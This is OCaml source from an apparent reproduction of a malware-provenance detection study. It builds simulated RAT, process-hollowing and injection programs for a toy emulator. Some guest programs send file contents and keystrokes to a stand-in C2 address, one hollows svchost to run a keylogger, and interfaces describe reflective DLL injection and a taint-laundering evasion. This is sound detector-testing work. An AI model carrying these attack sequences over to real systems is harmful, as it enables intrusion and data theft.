  let items =
    List.concat
      [
        [ Progs.lbl "start" ];
        Progs.connect_api ~ip:server_ip ~port;
        [ Progs.movi Isa.bp reps; Progs.lbl "outer" ];
        Behavior.code frags;
        [
          Progs.i (Isa.Sub_ri (Isa.bp, 1));
          Progs.i (Isa.Cmp_ri (Isa.bp, 0));
          Asm.Jnz_l "outer";
        ];
        [ Progs.halt ];
        [ Asm.Align 4 ];
        Behavior.data frags;
      ]
  in
  Faros_os.Pe.of_program ~name ~base:Faros_os.Process.image_base ~imports items

let scenario ~name ~port ~behaviors ~reps ~seed =
  let frags = Behavior.compose ~seed behaviors in
  let feed = Behavior.c2_feed frags in
  let full_feed = String.concat "" (List.init reps (fun _ -> feed)) in
  let exe = name ^ ".exe" in
  let actor =
    {
      Faros_os.Netstack.actor_name = name ^ "-server";
      actor_ip = Faros_os.Types.Ip.of_string server_ip;
      actor_port = port;
      on_connect = (fun _ -> if full_feed = "" then [] else [ full_feed ]);
      on_data = (fun _ _ -> []);
    }
  in
  Scenario.make name
    ~images:[ (exe, looped_image ~name:exe ~port ~behaviors ~reps ~seed) ]
    ~files:Rats.support_files ~actors:[ actor ]
    ~keys:(String.concat "" (List.init 64 (fun _ -> "the quick brown fox ")))
    ~max_ticks:3_000_000 ~boot:[ exe ]

(* The six Table V rows, ordered as the paper prints them. *)
let workloads () =
  let open Behavior in
  [
    ("Skype", scenario ~name:"skype_perf" ~port:33033
       ~behaviors:[ Idle; Audio_record; Download ] ~reps:220 ~seed:3);
    ("Team Viewer", scenario ~name:"teamviewer_perf" ~port:5938
       ~behaviors:[ Idle; Remote_desktop; Remote_shell ] ~reps:60 ~seed:1);
    ("Bozok", scenario ~name:"bozok_perf" ~port:4300
       ~behaviors:[ Idle; File_transfer; Key_logger; Upload ] ~reps:24 ~seed:0);
    ("Spygate", scenario ~name:"spygate_perf" ~port:8521
       ~behaviors:[ Idle; Audio_record; File_transfer; Key_logger; Remote_desktop ]
       ~reps:60 ~seed:2);
    ("Pandora", scenario ~name:"pandora_perf" ~port:5200
       ~behaviors:[ Idle; Audio_record; Key_logger; Upload ] ~reps:16 ~seed:0);
    ("Remote Utility", scenario ~name:"remote_utility_perf" ~port:5650
       ~behaviors:[ Idle; File_transfer; Remote_desktop; Remote_shell ] ~reps:230
       ~seed:0);
  ]
