(** Process hollowing / replacement (Fig. 10, the Lab 3-3 keylogger).

    process_hollowing.exe carries its payload inside its own image, creates
    svchost.exe suspended, unmaps the legitimate image from the child,
    writes the payload into the hollow, points the child's thread context
    at it and resumes.  The payload never touches the network — its
    provenance is file-borne. *)

val svchost_unmap_span : int
val hollowing_image : ?keys:int -> unit -> Faros_os.Pe.t
val scenario : ?keys:int -> unit -> Scenario.t
