(* Process hollowing / replacement (Fig. 10, the Lab 3-3 keylogger).

   process_hollowing.exe carries its payload inside its own image, creates
   svchost.exe suspended, unmaps the legitimate image from the child,
   writes the payload into the hollow, points the child's thread context at
   it and resumes.  The payload never touches the network — its provenance
   is file-borne, which is why Fig. 10's provenance list shows only
   process_hollowing.exe -> svchost.exe over the export table. *)

open Faros_vm

let svchost_unmap_span = 8 * Faros_vm.Phys_mem.page_size

let hollowing_image ?(keys = 16) () =
  let payload = Payloads.keylogger ~keys ~log:"practicalmalware.log" () in
  let svchost = "svchost.exe" in
  let items =
    List.concat
      [
        [ Progs.lbl "start" ];
        (* child = NtCreateProcess("svchost.exe", suspended) *)
        [
          Progs.lea_label Isa.r1 "str_svchost";
          Progs.movi Isa.r2 (String.length svchost);
          Progs.movi Isa.r3 1;
        ];
        Progs.syscall Faros_os.Syscall.nt_create_process;
        [ Progs.movr Isa.r7 Isa.r0 ];
        (* base = NtQueryInformationProcess(child) *)
        [ Progs.movr Isa.r1 Isa.r7 ];
        Progs.syscall Faros_os.Syscall.nt_query_information_process;
        [ Progs.movr Isa.r6 Isa.r0 ];
        (* NtUnmapViewOfSection(child, base, span) *)
        [
          Progs.movr Isa.r1 Isa.r7;
          Progs.movr Isa.r2 Isa.r6;
          Progs.movi Isa.r3 svchost_unmap_span;
        ];
        Progs.syscall Faros_os.Syscall.nt_unmap_view_of_section;
        (* hollow = NtAllocateVirtualMemory(child, len) *)
        [ Progs.movr Isa.r1 Isa.r7; Progs.movi Isa.r2 (String.length payload) ];
        Progs.syscall Faros_os.Syscall.nt_allocate_virtual_memory;
        [ Progs.movr Isa.r5 Isa.r0 ];
        (* NtWriteVirtualMemory(child, hollow, payload, len) *)
        [
          Progs.movr Isa.r1 Isa.r7;
          Progs.movr Isa.r2 Isa.r5;
          Asm.Mov_label (Isa.r3, "payload");
          Progs.movi Isa.r4 (String.length payload);
        ];
        Progs.syscall Faros_os.Syscall.nt_write_virtual_memory;
        (* redirect and resume *)
        [ Progs.movr Isa.r1 Isa.r7; Progs.movr Isa.r2 Isa.r5 ];
        Progs.syscall Faros_os.Syscall.nt_set_context_thread;
        [ Progs.movr Isa.r1 Isa.r7 ];
        Progs.syscall Faros_os.Syscall.nt_resume_process;
        [ Progs.halt ];
        Progs.cstring "str_svchost" svchost;
        [ Asm.Align 4; Progs.lbl "payload"; Asm.Bytes payload ];
      ]
  in
  Faros_os.Pe.of_program ~name:"process_hollowing.exe"
    ~base:Faros_os.Process.image_base items

let scenario ?(keys = 16) () =
  Scenario.make "process_hollowing"
    ~images:
      [
        ("svchost.exe", Victims.svchost ());
        ("process_hollowing.exe", hollowing_image ~keys ());
      ]
    ~keys:"hunter2!password"
    ~boot:[ "process_hollowing.exe" ]
