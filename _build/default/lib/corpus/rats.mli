(** The Table IV corpus: non-injecting RAT families.

    Every sample composes behaviour fragments over a C2 connection;
    variants of a family differ by seed and port, so each of the 90 builds
    is a distinct program — but none moves code across a process boundary,
    which is what keeps FAROS quiet on all of them. *)

val c2_ip : string

val image :
  name:string -> port:int -> behaviors:Behavior.t list -> seed:int -> Faros_os.Pe.t

val c2_actor : port:int -> feed:string -> Faros_os.Netstack.actor

val support_files : (string * string) list
(** Data files the File_transfer / Upload behaviours read. *)

val scenario :
  name:string -> port:int -> behaviors:Behavior.t list -> seed:int -> Scenario.t

val families : (string * int * Behavior.t list) list
(** The 17 malware rows of Table IV: family, base port, behaviours. *)

val samples :
  ?total:int -> unit -> (string * string * Behavior.t list * Scenario.t) list
(** [total] builds (default 90) spread across the families. *)
