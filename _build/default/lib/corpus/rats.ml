(* The Table IV corpus: non-injecting RAT families.

   Every sample is a composition of behaviour fragments over a C2
   connection; variants of a family differ by seed (sizes, iteration
   counts) and port, so each of the 90 samples is a distinct program — but
   none of them moves code across a process boundary, which is what keeps
   FAROS quiet on all of them. *)

open Faros_vm

let c2_ip = "169.254.26.161"

let image ~name ~port ~behaviors ~seed =
  let frags = Behavior.compose ~seed behaviors in
  let imports =
    List.sort_uniq compare ([ "socket"; "connect" ] @ Behavior.imports frags)
  in
  let items =
    List.concat
      [
        [ Progs.lbl "start" ];
        Progs.connect_api ~ip:c2_ip ~port;
        Behavior.code frags;
        [ Progs.halt ];
        [ Asm.Align 4 ];
        Behavior.data frags;
      ]
  in
  Faros_os.Pe.of_program ~name ~base:Faros_os.Process.image_base ~imports items

let c2_actor ~port ~feed =
  {
    Faros_os.Netstack.actor_name = "c2";
    actor_ip = Faros_os.Types.Ip.of_string c2_ip;
    actor_port = port;
    on_connect = (fun _flow -> if feed = "" then [] else [ feed ]);
    on_data = (fun _flow _data -> []);
  }

(* Data files the File_transfer / Upload behaviours read. *)
let support_files =
  [
    ("secret.txt", "TOP-SECRET: quarterly numbers and a cookie recipe....");
    ("upload.bin", String.init 64 (fun k -> Char.chr (0x41 + (k mod 26))));
  ]

let scenario ~name ~port ~behaviors ~seed =
  let frags = Behavior.compose ~seed behaviors in
  let feed = Behavior.c2_feed frags in
  let exe = name ^ ".exe" in
  Scenario.make name
    ~images:[ (exe, image ~name:exe ~port ~behaviors ~seed); ("calc.exe", Victims.calc ()) ]
    ~files:support_files
    ~actors:[ c2_actor ~port ~feed ]
    ~keys:"correct horse battery staple"
    ~boot:[ exe ]

(* The 17 malware rows of Table IV: family, base port, behaviours. *)
let families : (string * int * Behavior.t list) list =
  let open Behavior in
  [
    ("pandora_v2.2", 5200, [ Idle; Run; Audio_record; File_transfer; Key_logger; Remote_desktop; Upload ]);
    ("darkcomet_v5.3", 1604, [ Idle; Run; Audio_record; File_transfer; Key_logger; Remote_desktop ]);
    ("njrat_v0.7", 1177, [ Idle; Run; File_transfer; Key_logger; Upload; Remote_shell ]);
    ("spygate_v3.2", 8521, [ Idle; Run; Audio_record; File_transfer; Key_logger; Remote_desktop; Remote_shell ]);
    ("blue_banana", 7700, [ Idle; Run; Key_logger; Remote_shell ]);
    ("blue_banana_v2.0", 7710, [ Idle; Run; Key_logger; Remote_shell ]);
    ("blue_banana_v3.0", 7720, [ Idle; Run; Key_logger; Remote_shell ]);
    ("bozok", 4300, [ Idle; Run; File_transfer; Key_logger; Remote_desktop; Upload ]);
    ("bozok_v2.0", 4310, [ Idle; Run; File_transfer; Key_logger; Remote_desktop; Upload ]);
    ("bozok_v3.0", 4320, [ Idle; Run; File_transfer; Key_logger; Remote_desktop; Upload ]);
    ("darkcomet_v5.1.2", 1605, [ Idle; Run; Audio_record; File_transfer; Key_logger; Remote_desktop ]);
    ("darkcomet_legacy", 1606, [ Idle; Run; Audio_record; File_transfer; Key_logger; Remote_desktop ]);
    ("extremerat_v2.7.1", 9125, [ Idle; Run; Audio_record; File_transfer; Key_logger; Upload; Download ]);
    ("jspy", 6400, [ Idle; Run; Key_logger; Download ]);
    ("jspy_v2.0", 6410, [ Idle; Run; Key_logger; Download ]);
    ("jspy_v3.0", 6420, [ Idle; Run; Key_logger; Download ]);
    ("quasar_v1.0", 4782, [ Idle; Run; Remote_shell ]);
  ]

(* 90 sample builds spread across the 17 families, seeds making each build
   distinct. *)
let samples ?(total = 90) () =
  let nfam = List.length families in
  List.init total (fun idx ->
      let family_idx = idx mod nfam in
      let seed = idx / nfam in
      let family, base_port, behaviors = List.nth families family_idx in
      let name = Printf.sprintf "%s_s%d" family seed in
      (name, family, behaviors, scenario ~name ~port:(base_port + seed) ~behaviors ~seed))
