(** The evasion the paper's discussion section concedes: laundering the
    payload through a control-dependent bit-by-bit copy strips its
    provenance, so the direct-flow policy misses the injection; enabling
    control-dependency propagation (the configurable policy response the
    paper points to) catches it again. *)

val attacker_ip : string
val attacker_port : int

val launder_sub : label:string -> Faros_vm.Asm.item list
(** launder(r1 = dst, r2 = src, r3 = len): byte-wise bit-copy whose only
    information flow is the conditional. *)

val client_image : target_pid:int -> Faros_os.Pe.t
val scenario : unit -> Scenario.t
