(** The behaviour matrix of Table IV.

    Each behaviour is a guest-code fragment a RAT (or benign tool) executes
    after connecting to its server; fragments compose into sample programs.
    [seed] varies sizes and iteration counts across samples of the same
    family so variants are genuinely different programs. *)

type t =
  | Idle
  | Run
  | Audio_record
  | File_transfer
  | Key_logger
  | Remote_desktop
  | Upload
  | Download
  | Remote_shell

val all : t list
(** Matrix column order. *)

val to_string : t -> string

type fragment = {
  code : Faros_vm.Asm.item list;  (** expects the C2 socket handle in r7 *)
  data : Faros_vm.Asm.item list;
  imports : string list;
  c2_feed : string;
      (** bytes this fragment consumes from the C2 stream, in order; the
          actor must feed exactly these *)
}

val fragment : prefix:string -> seed:int -> t -> fragment

val compose : seed:int -> t list -> fragment list
(** One fragment per behaviour, in matrix column order (so the C2 feed
    order is well defined). *)

val code : fragment list -> Faros_vm.Asm.item list
val data : fragment list -> Faros_vm.Asm.item list
val imports : fragment list -> string list
val c2_feed : fragment list -> string
