(** JIT workloads: the Table III false-positive study.

    JITs are legitimately injection-shaped: code arrives over the network
    and ends up executing after being linked against system libraries.
    Two flavours, mirroring why the paper saw 2/10 applets flag and 0/10
    AJAX sites:

    - {e laundering JIT}: the generator translates downloaded bytes through
      a lookup table (an address dependency), so under the direct-flow
      policy the emitted code is untainted — no flag.  All ten AJAX sites
      and eight of the applets compile this way.
    - {e native-stub applet}: two applets ship a native helper routine
      whose bytes are copied verbatim into the JVM's code cache, execute
      with network provenance, and resolve symbols by walking the export
      directory — FAROS flags them, and the analyst whitelists the JVM. *)

val web_ip : string
val web_port : int

val browser_ajax_image : name:string -> request:string -> Faros_os.Pe.t
val browser_applet_image : unit -> Faros_os.Pe.t
val java_image : unit -> Faros_os.Pe.t

val java_cache_base : int
(** Where the JVM's code cache lands (deterministic allocation). *)

val applet_scenario : name:string -> native:bool -> Scenario.t
val ajax_scenario : site:string -> Scenario.t

val applets : (string * bool) list
(** Table III's applet set; [true] marks the two native-stub applets (the
    expected false positives). *)

val ajax_sites : string list

val samples :
  unit -> (string * [ `Ajax | `Applet ] * bool * Scenario.t) list
