(** Reflective DLL injection — the three Metasploit-module experiments of
    Section VI.

    The client (inject_client.exe) opens a reverse connection to the
    attacker, downloads a length-prefixed payload, and either injects it
    into a victim (allocate + cross-process write + thread-context hijack)
    or into itself (reverse_tcp_dns, where "the shell code and the target
    process were the same").  All syscalls are raw — invisible to
    library-level monitors. *)

val attacker_ip : string
val attacker_port : int

val first_boot_pid : int
(** Pid of the first process a scenario boots (the hardcoded target). *)

val client_image : name:string -> inject:[ `Pid of int | `Self ] -> Faros_os.Pe.t

val attacker_actor : payload:string -> Faros_os.Netstack.actor
(** Metasploit-side actor: serves the framed payload on connect. *)

val reflective_dll_inject : ?scrub:bool -> unit -> Scenario.t
(** Experiment 1 (Fig. 7): injection into notepad.exe.  [scrub] makes the
    payload transient (self-unmapping). *)

val reverse_tcp_dns : unit -> Scenario.t
(** Experiment 2 (Fig. 8): self-injection. *)

val reflective_rdll : unit -> Scenario.t
(** The full reflective-DLL variant: a sectioned DLL image mapped in-guest
    by its bootstrap. *)

val bypassuac_injection : unit -> Scenario.t
(** Experiment 3 (Fig. 9): injection into firefox.exe. *)
