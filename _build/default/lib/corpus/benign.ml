(* Benign software from Table IV: remote-admin tools whose *behaviours*
   overlap heavily with the RATs (that is the point of the false-positive
   study) plus two purely local tools. *)

open Faros_vm

let server_ip = "100.64.11.5"

let networked ~name ~port ~behaviors ~seed =
  let frags = Behavior.compose ~seed behaviors in
  let imports =
    List.sort_uniq compare ([ "socket"; "connect" ] @ Behavior.imports frags)
  in
  let exe = name ^ ".exe" in
  let image =
    Faros_os.Pe.of_program ~name:exe ~base:Faros_os.Process.image_base ~imports
      (List.concat
         [
           [ Progs.lbl "start" ];
           Progs.connect_api ~ip:server_ip ~port;
           Behavior.code frags;
           [ Progs.halt ];
           [ Asm.Align 4 ];
           Behavior.data frags;
         ])
  in
  let actor =
    {
      Faros_os.Netstack.actor_name = name ^ "-server";
      actor_ip = Faros_os.Types.Ip.of_string server_ip;
      actor_port = port;
      on_connect =
        (fun _flow ->
          let feed = Behavior.c2_feed frags in
          if feed = "" then [] else [ feed ]);
      on_data = (fun _flow _data -> []);
    }
  in
  Scenario.make name
    ~images:[ (exe, image); ("calc.exe", Victims.calc ()) ]
    ~files:Rats.support_files ~actors:[ actor ]
    ~keys:"meeting notes for tuesday" ~boot:[ exe ]

(* A purely local tool: screenshot to file, no network at all. *)
let snipping_tool ~seed =
  let n = 128 + (seed mod 3 * 32) in
  let exe = "snipping_tool.exe" in
  let image =
    Faros_os.Pe.of_program ~name:exe ~base:Faros_os.Process.image_base
      ~imports:[ "BitBlt"; "CreateFileA"; "WriteFile" ]
      (List.concat
         [
           [ Progs.lbl "start" ];
           [ Progs.lea_label Isa.r1 "buf"; Progs.movi Isa.r2 n ];
           Progs.call_api "BitBlt";
           [ Progs.lea_label Isa.r1 "path"; Progs.movi Isa.r2 8 ];
           Progs.call_api "CreateFileA";
           [
             Progs.movr Isa.r1 Isa.r0;
             Progs.lea_label Isa.r2 "buf";
             Progs.movi Isa.r3 n;
           ];
           Progs.call_api "WriteFile";
           [ Progs.halt ];
           Progs.cstring "path" "snip.png";
           Progs.buffer "buf" n;
         ])
  in
  Scenario.make (Printf.sprintf "snipping_tool_s%d" seed) ~images:[ (exe, image) ]
    ~boot:[ exe ]

let programs : (string * int * Behavior.t list) list =
  let open Behavior in
  [
    ("remote_utility", 5650, [ Idle; Run; File_transfer; Remote_desktop; Remote_shell ]);
    ("teamviewer", 5938, [ Idle; Remote_desktop; Remote_shell ]);
    ("skype", 33033, [ Idle; Audio_record; Download ]);
  ]

(* 14 benign samples: variants of the three networked tools plus the local
   snipping tool. *)
let samples ?(total = 14) () =
  let networked_total = total - (total / 4) in
  let nprog = List.length programs in
  let networked_samples =
    List.init networked_total (fun idx ->
        let prog_idx = idx mod nprog in
        let seed = idx / nprog in
        let name0, base_port, behaviors = List.nth programs prog_idx in
        let name = Printf.sprintf "%s_s%d" name0 seed in
        (name, name0, behaviors, networked ~name ~port:(base_port + seed) ~behaviors ~seed))
  in
  let local_samples =
    List.init (total - networked_total) (fun seed ->
        ( Printf.sprintf "snipping_tool_s%d" seed,
          "snipping_tool",
          [],
          snipping_tool ~seed ))
  in
  networked_samples @ local_samples
