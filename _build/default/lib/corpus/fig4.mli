(** The provenance-list life cycle of Fig. 4: "data comes in from network
    and goes to Process 1.  Next, it goes to Process 2, and then it is
    written into File 1, which is read by Process 3."  Three cooperating
    guest programs reproduce exactly that chain. *)

val payload : string
val file1 : string

val p1_image : unit -> Faros_os.Pe.t
val p2_image : unit -> Faros_os.Pe.t
val p3_image : unit -> Faros_os.Pe.t

type experiment = {
  exp_scenario : Scenario.t;
  exp_sink_vaddr : int;  (** process 3's destination buffer *)
  exp_len : int;
}

val experiment : unit -> experiment
