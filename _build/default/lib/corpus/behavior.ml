(* The behaviour matrix of Table IV.

   Each behaviour is a guest-code fragment a RAT (or benign tool) executes
   after connecting to its server; fragments compose into sample programs.
   Fragments call Windows APIs through the IAT (stub calls a library-level
   monitor can hook) — these samples do not inject and have nothing to
   hide.  [seed] varies sizes and iteration counts across samples of the
   same family so variants are genuinely different programs. *)

open Faros_vm

type t =
  | Idle
  | Run
  | Audio_record
  | File_transfer
  | Key_logger
  | Remote_desktop
  | Upload
  | Download
  | Remote_shell

let all =
  [
    Idle;
    Run;
    Audio_record;
    File_transfer;
    Key_logger;
    Remote_desktop;
    Upload;
    Download;
    Remote_shell;
  ]

let to_string = function
  | Idle -> "Idle"
  | Run -> "Run"
  | Audio_record -> "Audio Record"
  | File_transfer -> "File Transfer"
  | Key_logger -> "Key logger"
  | Remote_desktop -> "Remote Desktop"
  | Upload -> "Upload"
  | Download -> "Download"
  | Remote_shell -> "Remote Shell"

type fragment = {
  code : Asm.item list;  (* expects the C2 socket handle in r7 *)
  data : Asm.item list;
  imports : string list;
  (* Bytes this fragment consumes from the C2 stream, in order; the actor
     must feed exactly these. *)
  c2_feed : string;
}

let nothing = { code = []; data = []; imports = []; c2_feed = "" }

(* Send r3 bytes from label [buf] on the C2 socket. *)
let send_buf ~buf ~len =
  List.concat
    [
      [ Progs.movr Isa.r1 Isa.r7; Progs.lea_label Isa.r2 buf; Progs.movi Isa.r3 len ];
      Progs.call_api "send";
    ]

let fragment ~prefix ~seed behavior =
  let label s = prefix ^ "_" ^ s in
  match behavior with
  | Idle ->
    {
      nothing with
      code = Progs.idle_loop ~label:(label "idle") ~count:(64 + (seed mod 7 * 16));
    }
  | Run ->
    let child = "calc.exe" in
    {
      nothing with
      code =
        List.concat
          [
            [
              Progs.lea_label Isa.r1 (label "child");
              Progs.movi Isa.r2 (String.length child);
              Progs.movi Isa.r3 0;
            ];
            Progs.call_api "CreateProcessA";
          ];
      data = Progs.cstring (label "child") child;
      imports = [ "CreateProcessA" ];
    }
  | Audio_record ->
    let n = 48 + (seed mod 5 * 16) in
    {
      code =
        List.concat
          [
            [ Progs.lea_label Isa.r1 (label "buf"); Progs.movi Isa.r2 n ];
            Progs.call_api "waveInRecord";
            send_buf ~buf:(label "buf") ~len:n;
          ];
      data = Progs.buffer (label "buf") n;
      imports = [ "waveInRecord"; "send" ];
      c2_feed = "";
    }
  | File_transfer ->
    let n = 32 + (seed mod 3 * 8) in
    {
      code =
        List.concat
          [
            [ Progs.lea_label Isa.r1 (label "path"); Progs.movi Isa.r2 10 ];
            Progs.call_api "OpenFileA";
            [
              Progs.movr Isa.r1 Isa.r0;
              Progs.lea_label Isa.r2 (label "buf");
              Progs.movi Isa.r3 n;
            ];
            Progs.call_api "ReadFile";
            send_buf ~buf:(label "buf") ~len:n;
          ];
      data = Progs.cstring (label "path") "secret.txt" @ Progs.buffer (label "buf") n;
      imports = [ "OpenFileA"; "ReadFile"; "send" ];
      c2_feed = "";
    }
  | Key_logger ->
    let n = 8 + (seed mod 3 * 4) in
    {
      code =
        List.concat
          [
            [ Progs.movi Isa.r5 0; Progs.lbl (label "cap") ];
            Progs.call_api "GetAsyncKeyState";
            [
              Progs.lea_label Isa.r4 (label "buf");
              Progs.i (Isa.Store (1, Isa.indexed ~base:Isa.r4 ~scale:1 Isa.r5, Isa.r0));
              Progs.addi Isa.r5 1;
              Progs.i (Isa.Cmp_ri (Isa.r5, n));
              Asm.Jl_l (label "cap");
            ];
            send_buf ~buf:(label "buf") ~len:n;
          ];
      data = Progs.buffer (label "buf") n;
      imports = [ "GetAsyncKeyState"; "send" ];
      c2_feed = "";
    }
  | Remote_desktop ->
    let frames = 2 + (seed mod 2) in
    let n = 96 in
    {
      code =
        List.concat
          [
            [ Progs.movi Isa.r5 frames; Progs.lbl (label "frame") ];
            [ Progs.i (Isa.Push Isa.r5) ];
            [ Progs.lea_label Isa.r1 (label "buf"); Progs.movi Isa.r2 n ];
            Progs.call_api "BitBlt";
            send_buf ~buf:(label "buf") ~len:n;
            [
              Progs.i (Isa.Pop Isa.r5);
              Progs.i (Isa.Sub_ri (Isa.r5, 1));
              Progs.i (Isa.Cmp_ri (Isa.r5, 0));
              Asm.Jnz_l (label "frame");
            ];
          ];
      data = Progs.buffer (label "buf") n;
      imports = [ "BitBlt"; "send" ];
      c2_feed = "";
    }
  | Upload ->
    let n = 24 in
    {
      code =
        List.concat
          [
            [ Progs.lea_label Isa.r1 (label "path"); Progs.movi Isa.r2 10 ];
            Progs.call_api "OpenFileA";
            [
              Progs.movr Isa.r1 Isa.r0;
              Progs.lea_label Isa.r2 (label "buf");
              Progs.movi Isa.r3 n;
            ];
            Progs.call_api "ReadFile";
            send_buf ~buf:(label "buf") ~len:n;
          ];
      data = Progs.cstring (label "path") "upload.bin" @ Progs.buffer (label "buf") n;
      imports = [ "OpenFileA"; "ReadFile"; "send" ];
      c2_feed = "";
    }
  | Download ->
    (* Receives a blob and drops it to disk — data from the network that is
       written but never executed: tainted, yet never flagged. *)
    let n = 64 + (seed mod 2 * 32) in
    let blob = String.init n (fun k -> Char.chr (((k * 7) + seed) land 0xFF)) in
    {
      code =
        List.concat
          [
            [
              Progs.movr Isa.r1 Isa.r7;
              Progs.lea_label Isa.r2 (label "buf");
              Progs.movi Isa.r3 n;
            ];
            Progs.call_api "recv";
            [ Progs.lea_label Isa.r1 (label "path"); Progs.movi Isa.r2 11 ];
            Progs.call_api "CreateFileA";
            [
              Progs.movr Isa.r1 Isa.r0;
              Progs.lea_label Isa.r2 (label "buf");
              Progs.movi Isa.r3 n;
            ];
            Progs.call_api "WriteFile";
          ];
      data = Progs.cstring (label "path") "payload.bin" @ Progs.buffer (label "buf") n;
      imports = [ "recv"; "CreateFileA"; "WriteFile" ];
      c2_feed = blob;
    }
  | Remote_shell ->
    let cmd = "whoami\n" ^ String.make (25 - (seed mod 5)) '.' in
    let n = String.length cmd in
    {
      code =
        List.concat
          [
            [
              Progs.movr Isa.r1 Isa.r7;
              Progs.lea_label Isa.r2 (label "cmd");
              Progs.movi Isa.r3 n;
            ];
            Progs.call_api "recv";
            [ Progs.lea_label Isa.r1 (label "cmd"); Progs.movi Isa.r2 n ];
            Progs.call_api "OutputDebugStringA";
            send_buf ~buf:(label "ok") ~len:2;
          ];
      data = Progs.buffer (label "cmd") n @ Progs.cstring (label "ok") "ok";
      imports = [ "recv"; "OutputDebugStringA"; "send" ];
      c2_feed = cmd;
    }

(* Compose fragments for a sample: one fragment per behaviour, in matrix
   column order so the C2 feed order is well defined. *)
let compose ~seed behaviors =
  let ordered = List.filter (fun b -> List.mem b behaviors) all in
  List.mapi (fun idx b -> fragment ~prefix:(Printf.sprintf "b%d" idx) ~seed b) ordered

let code fragments = List.concat_map (fun f -> f.code) fragments
let data fragments = List.concat_map (fun f -> f.data) fragments

let imports fragments =
  List.sort_uniq compare (List.concat_map (fun f -> f.imports) fragments)

let c2_feed fragments = String.concat "" (List.map (fun f -> f.c2_feed) fragments)
