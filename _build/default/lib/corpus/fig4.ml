(* The provenance-list life cycle of Fig. 4.

   "data comes in from network and goes to Process 1.  Next, it goes to
   Process 2, and then it is written into File 1, which is read by
   Process 3."

   Three cooperating guest programs reproduce exactly that chain; the
   experiment exposes where the final bytes land so the bench can print
   the provenance list and compare it against the figure. *)

open Faros_vm

let source_ip = "169.254.26.161"
let source_port = 7000
let file1 = "file1.dat"
let payload = "provenance!"
let len = String.length payload

(* Process 1: receive from the network, plant into process 2's memory. *)
let p1_image () =
  Faros_os.Pe.of_program ~name:"process1.exe" ~base:Faros_os.Process.image_base
    (List.concat
       [
         [ Progs.lbl "start" ];
         Progs.connect_raw ~ip:source_ip ~port:source_port;
         [
           Progs.movr Isa.r1 Isa.r7;
           Progs.lea_label Isa.r2 "buf";
           Progs.movi Isa.r3 len;
           Asm.Call_l "recvx";
         ];
         (* write into process2 (second boot entry, pid 101) *)
         [ Progs.movi Isa.r1 101; Progs.movi Isa.r2 len ];
         Progs.syscall Faros_os.Syscall.nt_allocate_virtual_memory;
         [
           Progs.movi Isa.r1 101;
           Progs.movr Isa.r2 Isa.r0;
           Asm.Mov_label (Isa.r3, "buf");
           Progs.movi Isa.r4 len;
         ];
         Progs.syscall Faros_os.Syscall.nt_write_virtual_memory;
         [ Progs.halt ];
         Progs.recv_exact_sub ~label:"recvx";
         Progs.buffer "buf" 16;
       ])

(* Process 2: let process 1 plant first, then write the plant into File 1.
   Process 1 boots first and completes its injection within its first
   scheduler slice; burning a few hundred instructions here keeps the
   ordering safe without touching yet-unmapped memory. *)
let p2_image () =
  Faros_os.Pe.of_program ~name:"process2.exe" ~base:Faros_os.Process.image_base
    (List.concat
       [
         [ Progs.lbl "start" ];
         Progs.idle_loop ~label:"settle" ~count:200;
         (* touch the bytes (process 2's tag) by copying them locally *)
         [
           Asm.Mov_label (Isa.r1, "local");
           Progs.movi Isa.r2 Faros_os.Process.heap_base;
           Progs.movi Isa.r3 len;
           Asm.Call_l "memcpy";
         ];
         (* File 1 <- local buffer *)
         [ Progs.lea_label Isa.r1 "fname"; Progs.movi Isa.r2 (String.length file1) ];
         Progs.syscall Faros_os.Syscall.nt_create_file;
         [
           Progs.movr Isa.r1 Isa.r0;
           Asm.Mov_label (Isa.r2, "local");
           Progs.movi Isa.r3 len;
         ];
         Progs.syscall Faros_os.Syscall.nt_write_file;
         [ Progs.halt ];
         Progs.memcpy_sub ~label:"memcpy";
         Progs.cstring "fname" file1;
         Progs.buffer "local" 16;
       ])

(* Process 3: read File 1. *)
let p3_image () =
  Faros_os.Pe.of_program ~name:"process3.exe" ~base:Faros_os.Process.image_base
    ~exports:[ "sink" ]
    (List.concat
       [
         [ Progs.lbl "start" ];
         (* poll until File 1 exists *)
         [ Progs.movi Isa.r6 5000; Progs.lbl "wait" ];
         [ Progs.lea_label Isa.r1 "fname"; Progs.movi Isa.r2 (String.length file1) ];
         Progs.syscall Faros_os.Syscall.nt_query_attributes_file;
         [
           Progs.i (Isa.Cmp_ri (Isa.r0, 1));
           Asm.Jz_l "have";
           Progs.i (Isa.Sub_ri (Isa.r6, 1));
           Progs.i (Isa.Cmp_ri (Isa.r6, 0));
           Asm.Jnz_l "wait";
           Progs.halt;
         ];
         [ Progs.lbl "have" ];
         [ Progs.lea_label Isa.r1 "fname"; Progs.movi Isa.r2 (String.length file1) ];
         Progs.syscall Faros_os.Syscall.nt_open_file;
         [
           Progs.movr Isa.r1 Isa.r0;
           Progs.lea_label Isa.r2 "sink";
           Progs.movi Isa.r3 len;
         ];
         Progs.syscall Faros_os.Syscall.nt_read_file;
         (* consume the data: checksum it byte by byte, which is the access
            that stamps process 3's tag onto the provenance lists *)
         [
           Progs.movi Isa.r1 0;
           Progs.movi Isa.r2 0;
           Progs.lbl "sum";
           Progs.i (Isa.Cmp_ri (Isa.r2, len));
           Asm.Jge_l "done";
           Asm.Mov_label (Isa.r3, "sink");
           Progs.i (Isa.Load (1, Isa.r4, Isa.indexed ~base:Isa.r3 ~scale:1 Isa.r2));
           Progs.i (Isa.Add_rr (Isa.r1, Isa.r4));
           Progs.addi Isa.r2 1;
           Asm.Jmp_l "sum";
           Progs.lbl "done";
           Progs.halt;
         ];
         Progs.cstring "fname" file1;
         Progs.buffer "sink" 16;
       ])

type experiment = {
  exp_scenario : Scenario.t;
  exp_sink_vaddr : int;  (* process 3's buffer *)
  exp_len : int;
}

let experiment () =
  let p3 = p3_image () in
  {
    exp_scenario =
      Scenario.make "fig4_chain"
        ~images:
          [
            ("process2.exe", p2_image ());
            ("process1.exe", p1_image ());
            ("process3.exe", p3);
          ]
        ~actors:
          [
            {
              Faros_os.Netstack.actor_name = "source";
              actor_ip = Faros_os.Types.Ip.of_string source_ip;
              actor_port = source_port;
              on_connect = (fun _ -> [ payload ]);
              on_data = (fun _ _ -> []);
            };
          ]
          (* boot order fixes the pids: process1 = 100, process2 = 101
             (process1's injection target), process3 = 102 *)
        ~boot:[ "process1.exe"; "process2.exe"; "process3.exe" ];
    exp_sink_vaddr = List.assoc "sink" p3.exports;
    exp_len = len;
  }
