(* Guest-assembly building blocks shared by the whole corpus.

   Conventions: syscall number in r0, args in r1..r5, result in r0 (set by
